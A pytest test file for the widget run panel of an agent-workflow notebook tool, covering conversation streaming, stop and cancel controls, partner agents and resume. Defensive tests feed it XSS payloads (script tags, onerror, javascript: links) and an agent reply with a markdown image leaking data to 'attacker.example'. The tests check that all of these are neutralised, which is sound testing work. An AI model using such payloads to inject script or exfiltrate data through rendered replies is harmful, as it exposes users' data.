"""The run panel without a frontend: widgets fall back to a dummy comm, and clicks and
typing are delivered exactly as the browser sends them (`_handle_msg` with `buffers`)."""

from __future__ import annotations

import asyncio
from pathlib import Path

import ipywidgets as widgets
import pytest

from awf_nb.api import load
from awf_nb.engine import events as ev
from awf_nb.frontends.notebook.composer import Composer
from awf_nb.frontends.notebook.handle import AwfCellError, RunHandle
from awf_nb.frontends.notebook.panel import RunPanel
from awf_nb.frontends.notebook.panel_controls import PROMPT_HINT
from awf_nb.frontends.notebook.panel_items import clean_output, render_markdown
from awf_nb.frontends.notebook.panel_static import static_html
from awf_nb.frontends.notebook.reader import WidgetReader
from awf_nb.frontends.notebook.stream_view import StreamHTML
from awf_nb.runs import prepare_run
from tests.support.panel_frontend import PanelFrontend
from tests.support.panel_widgets import find, press, send
from tests.support.waiting import until

WAIT_SECONDS = 20.0


def conversation(replies: list[str], delay_ms: int = 0) -> str:
    quoted = ", ".join(f'"{r}"' for r in replies)
    return f"""
name: chat
states:
  initial: talk
  talk:
    type: agent
    provider: scripted
    mode: conversation
    prompt: "Hello agent"
    options:
      replies: [{quoted}]
      delay_ms: {delay_ms}
    on_success: done
  done:
    type: terminal
    message: "{{{{.states.talk.Conversation.TotalTurns}}}} replies"
"""


def start(
    yaml_text: str, *, interactive: bool = True, knows_workflow: bool = False
) -> tuple[RunPanel, RunHandle]:
    """`knows_workflow`: the panel is given the workflow, as `%%awf` gives it."""
    workflow = load(yaml_text)
    panel = RunPanel(
        workflow.name, interactive=interactive, workflow=workflow if knows_workflow else None
    )
    reader = WidgetReader() if interactive else None
    prepared = prepare_run(workflow, frontend=PanelFrontend(panel, reader), storage=False)
    handle = RunHandle(prepared, name="chat")
    handle.start()
    return panel, handle


def bubbles(panel: RunPanel, step: str = "talk") -> list[tuple[str, str]]:
    section = panel._sections[step]
    return [
        (child._dom_classes[0], child.html if isinstance(child, StreamHTML) else child.value)
        for child in section.body.children
        if isinstance(child, widgets.HTML | StreamHTML)
    ]


async def test_a_conversation_driven_only_by_clicks_completes() -> None:
    panel, handle = start(conversation(["Hi! What next?", "Noted: *two*.", "unused"]))

    await until(lambda: panel.input.composer.can_send, "the first prompt")
    send(panel.input, "Remember two things")
    await until(lambda: len(bubbles(panel)) == 4, "the message and its reply")
    await until(lambda: panel.input.composer.can_send, "the second prompt")
    press(panel.input.composer, "end")
    result = await asyncio.wait_for(handle.wait(), WAIT_SECONDS)

    assert result.ok and result.state.message == "2 replies"
    shown = bubbles(panel)
    assert [kind for kind, _ in shown] == ["awf-user", "awf-assistant"] * 2
    assert shown[0][1] == "Hello agent"
    assert shown[2][1] == "Remember two things"
    assert shown[3][1] == "<p>Noted: <em>two</em>.</p>\n"
    assert "completed" in panel.status.value
    assert panel.input.widget not in panel.widget.children
    summary = panel.widget.children[-1]
    assert "awf-summary" in summary._dom_classes and "2 replies" in summary.value


async def test_the_panel_has_the_widgets_the_browser_tests_rely_on() -> None:
    panel, handle = start(conversation(["a"]))

    assert "awf-panel" in panel.widget._dom_classes
    assert "awf-status" in panel.status._dom_classes
    assert find(panel.widget, Composer) == [panel.input.composer]
    assert "awf-controls" in panel.input.composer._dom_classes
    assert panel.input.composer.interactive
    assert panel.input.composer.placeholder == PROMPT_HINT
    # The text box and the buttons are the composer's own (composer.js): no other widgets.
    assert find(panel.widget, widgets.Textarea) == find(panel.widget, widgets.Button) == []
    assert repr(panel.widget) == "awf run panel: chat"
    handle.cancel()
    await asyncio.wait({handle.task})


async def test_send_with_an_empty_box_ends_the_conversation() -> None:
    panel, handle = start(conversation(["a", "b"]))
    await until(lambda: panel.input.composer.can_send, "the prompt")

    send(panel.input, "   ")
    result = await asyncio.wait_for(handle.wait(), WAIT_SECONDS)

    assert result.ok
    conversation_ = result.steps["talk"].conversation
    assert conversation_.total_turns == 1 and conversation_.stopped_by == "user_exit"


async def test_stop_during_a_reply_interrupts_it_and_returns_to_the_prompt() -> None:
    long_reply = " ".join(["streaming"] * 200)
    panel, handle = start(conversation(["short", long_reply, "after the stop"], delay_ms=10))
    await until(lambda: panel.input.composer.can_send, "the first prompt")
    send(panel.input, "go on")
    await until(lambda: "streaming" in bubbles(panel)[-1][1], "text")

    press(panel.input.composer, "stop")
    await until(lambda: panel.input.composer.can_send, "the prompt after the stop")

    assert not handle.done()
    last = bubbles(panel)[-1]
    assert last[0] == "awf-assistant" and "reply interrupted" in last[1]
    assert last[1].count("streaming") < 200
    send(panel.input, "and now?")
    await until(lambda: "after the stop" in bubbles(panel)[-1][1], "the next reply")
    press(panel.input.composer, "end")
    result = await asyncio.wait_for(handle.wait(), WAIT_SECONDS)
    turns = result.steps["talk"].conversation.turns
    assert [t.interrupted for t in turns if t.role == "assistant"] == [False, True, False]


async def test_at_the_prompt_stop_is_off_and_cancel_run_cancels_the_run() -> None:
    panel, handle = start(conversation(["a", "b"]))
    await until(lambda: panel.input.composer.can_send, "the prompt")

    # Nothing is being written: Stop (the reply) does nothing, the run waits on.
    assert not panel.input.composer.can_stop
    press(panel.input.composer, "stop")
    await asyncio.sleep(0.05)
    assert not handle.done() and panel.input.composer.can_send
    press(panel.input.composer, "cancel")
    await asyncio.wait_for(asyncio.wait({handle.task}), WAIT_SECONDS)

    assert handle.state.status == "cancelled"
    with pytest.raises(AwfCellError, match="was cancelled; continue it with %awf resume"):
        handle.result()
    assert "cancelled" in panel.status.value
    assert panel.input.widget not in panel.widget.children
    # A late click does nothing: the text typed is not taken as a message, and the panel
    # says nothing of it (no note asking for a message, no new status).
    reader = panel.input.reader
    assert reader is not None
    shown = (panel.status.value, tuple(panel.widget.children), tuple(panel.notes.children))
    transcript = [t.content for t in handle.state.steps["talk"].conversation.turns]
    send(panel.input, "too late")
    # The message is acted on on the run's loop: a callback queued after it runs after it.
    window = asyncio.Event()
    panel.on_loop(lambda: panel.on_loop(window.set))
    await asyncio.wait_for(window.wait(), WAIT_SECONDS)
    assert reader.queued == ()
    assert (panel.status.value, tuple(panel.widget.children), tuple(panel.notes.children)) == shown
    assert [t.content for t in handle.state.steps["talk"].conversation.turns] == transcript
    assert handle.state.status == "cancelled"


async def test_clicks_from_another_thread_reach_the_run() -> None:
    panel, handle = start(conversation(["a", "b"]))
    await until(lambda: panel.input.composer.can_send, "the prompt")

    await asyncio.to_thread(send, panel.input, "from a thread")
    await until(lambda: bubbles(panel)[-1][1] == "<p>b</p>\n", "the reply")
    await asyncio.to_thread(press, panel.input.composer, "end")
    assert (await asyncio.wait_for(handle.wait(), WAIT_SECONDS)).ok


async def test_a_headless_panel_has_no_text_box() -> None:
    panel, handle = start(conversation(["only reply"]), interactive=False)

    assert not panel.input.composer.interactive  # Stop and Cancel run only, no text box
    result = await asyncio.wait_for(handle.wait(), WAIT_SECONDS)
    assert result.steps["talk"].conversation.total_turns == 1


async def test_command_output_and_errors_show_in_their_step() -> None:
    text = r"""
name: build
states:
  initial: compile
  compile:
    type: command
    command: |
      printf '\033[32mok\033[0m <b>\n'; echo 'warning: x' >&2; exit 2
    on_success: done
  done: {type: terminal}
"""
    panel, handle = start(text, interactive=False)
    await asyncio.wait({handle.task})

    assert handle.state.status == "failed"
    shown = bubbles(panel, "compile")
    outputs = [value for kind, value in shown if kind == "awf-output"]
    assert len(outputs) == 1
    assert "ok &lt;b&gt;" in outputs[0] and "\x1b" not in outputs[0]
    assert '<span class="awf-stderr">warning: x\n</span>' in outputs[0]
    errors = [value for kind, value in shown if kind == "awf-error"]
    assert errors and "exit" in errors[0]
    section = panel._sections["compile"]
    assert section.widget.titles[0].startswith("✗ compile")
    assert "failed" in panel.status.value
    summary = panel.widget.children[-1]
    assert "awf-failed" in summary._dom_classes and "%awf resume" in summary.value


async def test_long_command_output_is_split_and_the_oldest_parts_dropped(monkeypatch) -> None:
    from awf_nb.frontends.notebook import panel_items as panel_module

    monkeypatch.setattr(panel_module, "OUTPUT_CHUNK_CHARS", 100)
    monkeypatch.setattr(panel_module, "MAX_OUTPUT_CHUNKS", 3)
    panel = RunPanel("big")
    panel.emit(ev.RunStarted("r", "big"))
    panel.emit(ev.StepStarted("r", "out", "command"))
    for index in range(20):
        panel.emit(ev.StepOutput("r", "out", f"line {index:03d} " + "x" * 40 + "\n"))
        panel.flush()
    section = panel._sections["out"]

    assert section.output is not None and len(section.output.chunks) == 3
    assert section.output.dropped > 0
    assert "earlier output not shown" in section.body.children[0].value.replace("k+ ", "")
    assert "line 019" in section.output.chunks[-1].html or "line 019" in (
        section.output.chunks[-2].html
    )


async def test_streamed_text_is_sent_at_flushes_not_per_token() -> None:
    panel = RunPanel("t", flush_interval=0.05)
    panel.emit(ev.RunStarted("r", "t"))
    panel.emit(ev.StepStarted("r", "a", "agent"))
    panel.emit(ev.TurnStarted("r", "a", 1))
    sent: list[str] = []
    reply = panel._sections["a"].reply
    assert reply is not None
    reply.widget.observe(lambda change: sent.append(change["new"]), names="value")

    for _ in range(100):
        panel.emit(ev.AgentText("r", "a", "tok "))
    assert panel.stats.flushes == 0  # 100 tokens, nothing sent yet: they wait for the timer
    await until(lambda: panel.stats.flushes > 0, "the flusher's timer")
    assert (panel.stats.flushes, panel.stats.updates) == (1, 1)  # one update for them all
    panel.emit(ev.TurnFinished("r", "a", 1, tokens=100, duration=0.1, text="tok " * 100))

    assert sent[-1].count("tok") == 100  # the reply's final text


async def test_tool_uses_warnings_and_logs_are_shown() -> None:
    panel = RunPanel("t")
    panel.emit(ev.RunStarted("r", "t"))
    panel.emit(ev.StepStarted("r", "a", "agent", detail="scripted"))
    panel.emit(ev.TurnStarted("r", "a", 1))
    panel.emit(ev.AgentText("r", "a", "Looking"))
    panel.emit(ev.AgentToolUse("r", "a", "read_file", "x" * 500))
    panel.emit(ev.AgentText("r", "a", "Done."))
    panel.emit(ev.RunWarning("r", "slow down", "a"))
    panel.emit(ev.LogMessage("r", "a note"))
    panel.emit(ev.RunError("r", "it <broke>", "a"))
    panel.emit(ev.TurnFinished("r", "a", 1, tokens=3, duration=0.1, text="Looking Done."))
    kinds = [kind for kind, _ in bubbles(panel, "a")]

    assert kinds[:3] == ["awf-assistant", "awf-tool", "awf-assistant"]
    tool = bubbles(panel, "a")[1][1]
    assert "read_file(" in tool and "…" in tool and len(tool) < 300
    assert ("awf-warning", "⚠ slow down") in bubbles(panel, "a")
    assert ("awf-error", "<p>it &lt;broke&gt;</p>") in bubbles(panel, "a")
    assert any("a note" in n.value for n in panel.notes.children)


def test_markdown_is_rendered_with_raw_html_escaped() -> None:
    rendered = render_markdown(
        "# Title\n\n**bold** <script>alert(1)</script> <img src=x onerror=alert(1)>\n\n"
        "[link](javascript:alert(1)) | a |\n|---|\n| b |\n\n```python\nx = 1\n```"
    )

    assert "<h1>Title</h1>" in rendered and "<strong>bold</strong>" in rendered
    assert "<script>" not in rendered and "&lt;script&gt;" in rendered
    assert "<img" not in rendered
    assert 'href="javascript:' not in rendered
    assert '<code class="language-python">' in rendered


async def test_the_live_panel_and_its_saved_html_load_no_remote_image() -> None:
    reply = "Look: ![chart](https://attacker.example/?d=notes) and x\u202ey."
    panel, handle = start(conversation([reply]), interactive=False)
    result = await asyncio.wait_for(handle.wait(), WAIT_SECONDS)

    assert result.ok, result.error
    (shown,) = [html for kind, html in bubbles(panel) if kind == "awf-assistant"]
    saved = static_html(panel.widget)
    for html in (shown, saved):
        assert "<img" not in html
        assert 'class="awf-remote-image" href="https://attacker.example/?d=notes"' in html
        assert "x⟨U+202E⟩y" in html and "\u202e" not in html


def test_clean_output() -> None:
    assert clean_output("\x1b[1;31mred\x1b[0m\r\nnext") == "red\nnext"
    assert clean_output("10%\r50%\r100%\ndone") == "100%\ndone"


async def test_a_second_send_while_the_first_travels_is_given_back() -> None:
    panel, handle = start(conversation(["a", "b"], delay_ms=200))
    await until(lambda: panel.input.composer.can_send, "the prompt")
    restored: list[object] = []
    panel.input.composer.send = restored.append  # type: ignore[method-assign]

    send(panel.input, "first")
    send(panel.input, "second, too quick")  # Send is off by now: the text goes back
    press(panel.input.composer, "end")  # ignored: the button is disabled
    await until(lambda: "first" in [v for _, v in bubbles(panel)], "the first message")

    assert restored == [{"restore": "second, too quick"}]
    await until(lambda: panel.input.composer.can_send, "the next prompt")
    press(panel.input.composer, "end")
    result = await asyncio.wait_for(handle.wait(), WAIT_SECONDS)
    assert [t.content for t in result.steps["talk"].conversation.turns if t.role == "user"] == [
        "Hello agent",
        "first",
    ]


async def test_a_message_reaches_the_waiting_read_with_no_timer_in_between() -> None:
    """The composer's message, handled on the run's loop, answers the reader's pending
    read at once: the read is done before the loop has run any callback after it, so no
    timer (however short) nor polling can be on the way."""
    panel = RunPanel("chat", interactive=True)
    reader = WidgetReader()
    panel.attach(reader=reader, loop=asyncio.get_running_loop())
    read = asyncio.create_task(reader.read("> "))
    await until(lambda: reader.waiting, "the read to wait")
    panel.input.set_input_enabled(True)
    loop = asyncio.get_running_loop()
    timers = len(loop._scheduled)  # type: ignore[attr-defined]

    send(panel.input, "hello engine")  # on the loop, as the run's loop handles the comm

    assert len(loop._scheduled) == timers  # type: ignore[attr-defined]  # no timer set
    await asyncio.sleep(0)  # the read's task resumes on the next turn of the loop
    assert read.done() and read.result() == "hello engine"
    assert not panel.input.composer.can_send  # no second send until the next prompt


async def test_a_message_from_a_comm_thread_wakes_the_run_in_one_hop() -> None:
    """From a subshell's thread: one `call_soon_threadsafe` to the run's loop, no timer."""
    panel = RunPanel("chat", interactive=True)
    reader = WidgetReader()
    loop = asyncio.get_running_loop()
    panel.attach(reader=reader, loop=loop)
    read = asyncio.create_task(reader.read("> "))
    await until(lambda: reader.waiting, "the read to wait")
    panel.input.set_input_enabled(True)
    timers = len(loop._scheduled)  # type: ignore[attr-defined]

    await asyncio.to_thread(send, panel.input, "from a subshell")

    assert await asyncio.wait_for(read, WAIT_SECONDS) == "from a subshell"
    assert len(loop._scheduled) == timers  # type: ignore[attr-defined]


EXCHANGE = """
name: exchange
states:
  initial: talk
  talk:
    type: agent
    provider: scripted
    mode: conversation
    prompt: "Write a haiku"
    options:
      replies: ["first draft streams for a good while word after word after word", "second draft", "third draft"]
      delay_ms: DELAY
    conversation:
      with: {name: reviewer, provider: scripted, options: {replies: ["fix it", "APPROVED"]}}
      until: 'message == "APPROVED"'
      max_turns: 5
    on_success: done
  done: {type: terminal}
"""


async def test_a_partner_agent_has_its_own_labelled_bubbles() -> None:
    panel, handle = start(EXCHANGE.replace("DELAY", "0"), interactive=False)
    result = await asyncio.wait_for(handle.wait(), WAIT_SECONDS)
    assert result.ok, result.error
    shown = bubbles(panel)
    # Every speaker is named: the step's agent (by its step) as well as its partner.
    assert [kind for kind, _ in shown] == [
        "awf-user",  # the prompt
        "awf-speaker",
        "awf-assistant",
        "awf-speaker",
        "awf-partner",
        "awf-speaker",
        "awf-assistant",
        "awf-speaker",
        "awf-partner",
    ]
    assert [text for kind, text in shown if kind == "awf-speaker"] == ["talk", "reviewer"] * 2
    assert "fix it" in shown[4][1]
    assert "awf-prompt" in panel._sections["talk"].body.children[0]._dom_classes


async def test_stop_during_an_exchange_then_a_typed_message_takes_over() -> None:
    panel, handle = start(EXCHANGE.replace("DELAY", "30"))
    await until(
        lambda: "talk" in panel._sections and "word" in "".join(v for _, v in bubbles(panel)),
        "the first draft",
    )
    press(panel.input.composer, "stop")
    await until(lambda: panel.input.composer.can_send, "the prompt after Stop")
    send(panel.input, "make it about snow")
    result = await asyncio.wait_for(handle.wait(), WAIT_SECONDS)
    assert result.ok, result.error
    turns = result.steps["talk"].conversation.turns
    assert (turns[2].role, turns[2].speaker, turns[2].content) == (
        "user",
        "person",
        "make it about snow",
    )
    shown = bubbles(panel)
    assert [kind for kind, _ in shown][:5] == [
        "awf-user",  # the prompt
        "awf-speaker",
        "awf-assistant",  # cut short by Stop
        "awf-speaker",
        "awf-user",  # the person, in the reviewer's place
    ]
    assert shown[3][1] == "you"
    assert "awf-partner" in [kind for kind, _ in shown][5:]


async def test_a_reply_cut_at_max_tokens_ends_with_a_marker() -> None:
    cut = conversation(["Once upon a time there was a fox.", "The end."]).replace(
        "delay_ms: 0", "delay_ms: 0\n      max_tokens: 5"
    )
    panel, handle = start(cut, interactive=False)
    await asyncio.wait_for(handle.wait(), WAIT_SECONDS)

    (reply,) = [text for kind, text in bubbles(panel) if kind == "awf-assistant"]
    assert reply == (
        '<p>Once upon a time the</p>\n<p class="awf-note awf-cut">… cut at max_tokens</p>'
    )
    assert "… cut at max_tokens" in static_html(panel.widget)


async def test_typing_into_an_exchange_between_agents_steps_in() -> None:
    """No Stop needed: the box says that typing there steps in, and Send does."""
    panel, handle = start(EXCHANGE.replace("DELAY", "150"), knows_workflow=True)
    await until(
        lambda: "talk" in panel._sections and "word" in "".join(v for _, v in bubbles(panel)),
        "the first draft",
    )

    assert panel.input.composer.can_send
    assert panel.input.composer.placeholder == (
        "talk and reviewer are talking. Type here and Send to step in: your message goes "
        "to talk in reviewer's place (sent empty at a pause: reviewer goes on)"
    )
    send(panel.input, "make it about snow")
    result = await asyncio.wait_for(handle.wait(), WAIT_SECONDS)

    assert result.ok, result.error
    turns = result.steps["talk"].conversation.turns
    (stepped_in,) = [i for i, t in enumerate(turns) if t.speaker == "person"]
    assert turns[stepped_in].content == "make it about snow"
    # It took the reviewer's turn: the draft before it was stopped for it.
    assert turns[stepped_in - 1].role == "assistant" and turns[stepped_in - 1].interrupted


async def test_end_conversation_during_an_exchange_ends_it() -> None:
    panel, handle = start(EXCHANGE.replace("DELAY", "150"), knows_workflow=True)
    await until(
        lambda: "talk" in panel._sections and "word" in "".join(v for _, v in bubbles(panel)),
        "the first draft",
    )

    press(panel.input.composer, "end")
    result = await asyncio.wait_for(handle.wait(), WAIT_SECONDS)

    assert result.ok, result.error
    conversation = result.steps["talk"].conversation
    assert conversation.stopped_by == "user_exit" and conversation.total_turns == 1


async def test_a_resumed_conversation_shows_what_was_said_before_the_next_turn(
    tmp_path: Path,
) -> None:
    """`%awf resume`: the panel opens with the conversation so far, dimmed, then asks."""
    from awf_nb.runs import Resume
    from awf_nb.store import Store

    store = Store(tmp_path / "storage")
    workflow = load(conversation(["Hi! What next?", "Noted: *two*.", "Bye."]))
    first = RunPanel(workflow.name, interactive=True)
    reader = WidgetReader()
    prepared = prepare_run(workflow, frontend=PanelFrontend(first, reader), storage=store)
    handle = RunHandle(prepared, name="chat")
    handle.start()
    await until(lambda: first.input.composer.can_send, "the first prompt")
    send(first.input, "Remember two things")
    await until(lambda: len(bubbles(first)) == 4, "the reply")
    await until(lambda: first.input.composer.can_send, "the second prompt")
    press(first.input.composer, "cancel")
    await asyncio.wait_for(asyncio.wait({handle.task}), WAIT_SECONDS)

    panel = RunPanel(workflow.name, interactive=True)
    reader = WidgetReader()
    resumed = prepare_run(
        Resume(handle.run_id), frontend=PanelFrontend(panel, reader), storage=store
    )
    again = RunHandle(resumed, name="chat")
    again.start()
    await until(lambda: panel.input.composer.can_send, "the prompt after resuming")

    (earlier,) = [child for child in panel._sections["talk"].body.children
                  if "awf-earlier" in child._dom_classes]  # fmt: skip
    assert "Earlier in this conversation: 4 messages" in earlier.value
    for said in ("Hello agent", "Hi! What next?", "Remember two things", "<em>two</em>"):
        assert said in earlier.value
    assert 'class="awf-user awf-prompt"' in earlier.value
    press(panel.input.composer, "end")
    assert (await asyncio.wait_for(again.wait(), WAIT_SECONDS)).ok
